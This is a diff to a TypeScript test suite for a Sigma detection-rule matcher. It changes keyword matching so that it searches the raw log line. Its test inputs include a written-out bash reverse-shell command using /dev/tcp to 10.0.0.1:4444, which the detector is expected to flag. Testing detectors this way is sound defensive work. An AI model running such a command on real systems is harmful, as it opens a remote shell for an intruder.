@@ -78,7 +78,7 @@ describe('Sigma string semantics (specification table)', () => {
   it.each(SPEC)('%s: %j against %j → %s', (key, value, input, expected) => {
     expect(sigmaMatcher(key, value)(input)).toBe(expected);
   });
-  it('|all requires every value; keywords under |all search the message', () => {
+  it('|all requires every value; keywords search the whole raw line, as Sigma keywords do', () => {
     const all = sigmaMatcher('cs-uri-query|contains|all', ['one', 'two']);
     expect(all('one-two')).toBe(true);
     expect(all('one')).toBe(false);
@@ -97,8 +97,11 @@ describe('Sigma string semantics (specification table)', () => {
     );
     const match = converted[0]?.doc.match;
     const { predicate } = compileSelection(match);
-    expect(predicate({ message: 'sh: bash -c exec 5<>/dev/tcp/10.0.0.1/4444' } as NormalizedEvent)).toBe(true);
-    expect(predicate({ message: 'bash -c ls' } as NormalizedEvent)).toBe(false);
+    expect(predicate({ 'event.original': 'sh: bash -c exec 5<>/dev/tcp/10.0.0.1/4444' } as NormalizedEvent)).toBe(true);
+    expect(predicate({ 'event.original': 'bash -c ls' } as NormalizedEvent)).toBe(false);
+    // A parser that splits the line (a JSON app's `msg`, a syslog body) leaves the keyword outside `message`.
+    const json = '{"msg":"job finished","cmd":"bash -c exec 5<>/dev/tcp/10.0.0.1/4444"}';
+    expect(predicate({ message: 'job finished', 'event.original': json } as NormalizedEvent)).toBe(true);
   });
 });
 
